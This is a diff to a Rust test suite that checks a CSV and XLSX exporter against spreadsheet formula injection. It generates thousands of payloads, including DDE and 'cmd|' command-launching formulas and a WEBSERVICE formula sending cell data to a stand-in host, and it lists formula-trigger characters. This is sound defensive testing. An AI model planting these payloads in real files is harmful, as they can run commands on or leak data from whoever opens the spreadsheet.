@@ -230,8 +230,80 @@ fn so_many_missing_characters_are_told_and_no_more() {
 fn a_guarded_file_runs_nothing_and_an_unguarded_one_stays_as_it_is() {
     let row: &[&[&str]] = &[&["=1+1", "+1", "-1", "@SUM", "1-1", "\tx"]];
     let how = Csv { encoding: Encoding::Utf8, ..Csv::default() };
-    assert_eq!(lines(row, Csv { guard: true, ..how }), b"'=1+1,'+1,'-1,'@SUM,1-1,'\tx\r\n");
-    assert_eq!(lines(row, how), b"=1+1,+1,-1,@SUM,1-1,\tx\r\n");
+    assert_eq!(lines(row, how), b"'=1+1,'+1,'-1,'@SUM,1-1,'\tx\r\n");
+    assert_eq!(lines(row, Csv { guard: false, ..how }), b"=1+1,+1,-1,@SUM,1-1,\tx\r\n");
+}
+
+/// Whatever a spreadsheet program may take for a formula, behind what it may skip.
+const RUNS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
+
+fn payloads() -> Vec<String> {
+    let before = ["", " ", "　", "'", "''", " ' ", "\u{A0}", "' '", "　　", "'　'"];
+    let mut bodies: Vec<String> = [
+        "1+1",
+        "cmd|'/C calc'!A0",
+        "SUM(A1:A9)",
+        "HYPERLINK(\"http://x.example\",\"見る\")",
+        "DDE(\"cmd\";\"/C calc\";\"\")",
+        "WEBSERVICE(\"http://x.example/\"&A1)",
+        "IMPORTXML(\"x\",\"y\")",
+        "'Sheet'!A1",
+        "\"a\",b",
+        "a\r\nb",
+        "",
+        "山田　太郎",
+    ]
+    .map(str::to_owned)
+    .to_vec();
+    bodies.extend((0..32).map(|n| format!("{n},\"{}\"\n{}", "=".repeat(n), n * 7)));
+    let mut all = Vec::new();
+    for body in &bodies {
+        for start in before {
+            all.extend(RUNS.iter().map(|run| format!("{start}{run}{body}")));
+            all.push(format!("{start}{body}"));
+        }
+    }
+    all
+}
+
+#[test]
+fn thousands_of_formulas_are_written_none_is_one_and_each_is_read_as_it_was() {
+    let payloads = payloads();
+    assert!(payloads.len() > 5_000, "{} payloads", payloads.len());
+    let rows = || payloads.iter().enumerate().map(|(number, text)| [format!("n{number}"), text.clone()]);
+    let mut bytes = Vec::new();
+    csv(rows(), Csv { encoding: Encoding::Utf8, ..Csv::default() }, &mut bytes).expect("the rows are written");
+    // As any other program reads it: no field begins a formula, whatever is skipped before it.
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
+    let mut guarded = 0;
+    for (record, text) in reader.records().zip(&payloads) {
+        let record = record.expect("a record");
+        let field = record.get(1).expect("two fields");
+        assert!(!field.trim_start().starts_with(RUNS), "{field:?} would run");
+        assert!(field == text || field.strip_prefix('\'') == Some(text), "{field:?} was {text:?}");
+        guarded += usize::from(field != text);
+    }
+    assert!(guarded > payloads.len() / 2, "{guarded} of {} are guarded", payloads.len());
+    // As this program reads it.
+    let read: Vec<String> =
+        intake::table::records(&bytes).expect("a table").into_iter().map(|(_, cells)| cells[1].clone()).collect();
+    assert!(read == payloads, "{:?}", read.iter().zip(&payloads).find(|(one, other)| one != other));
+
+    both_ways(|write| {
+        let cells = payloads.iter().map(|text| vec![Cell::text(text.clone())]);
+        let bytes = write(vec![Sheet::new("名簿", ["氏名"], cells)]);
+        let mut book = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
+        let formulas = book.worksheet_formula("名簿").expect("the sheet");
+        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
+        let range = book.worksheet_range("名簿").expect("the sheet");
+        // XML knows no bare CR: a reader may take it for the end of a line.
+        let plain = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
+        for (row, text) in (1..).zip(&payloads) {
+            let cell = range.get_value((row, 0)).cloned().unwrap_or_default();
+            assert!(!cell.is_float() && !cell.is_error(), "{text:?} became {cell:?}");
+            assert_eq!(plain(cell.get_string().unwrap_or_default()), plain(text), "row {row}");
+        }
+    });
 }
 
 #[test]
